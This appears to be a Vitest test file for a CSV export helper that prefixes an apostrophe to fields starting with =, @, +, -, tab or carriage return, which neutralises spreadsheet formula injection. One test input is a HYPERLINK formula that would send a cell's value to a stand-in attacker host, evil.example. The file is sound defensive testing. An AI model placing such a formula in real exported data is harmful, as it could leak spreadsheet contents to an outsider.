import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from './csv';

describe('csvField', () => {
  it.each([
    ['カフェ・ミナト', 'カフェ・ミナト'],
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['a=b', 'a=b'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['', ''],
  ])('text %j → %s', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it('writes numbers as they are, a negative one included', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(12)).toBe('12');
  });

  it('joins a record', () => {
    expect(csvLine(['=1', 2, 'x'])).toBe("'=1,2,x");
  });
});
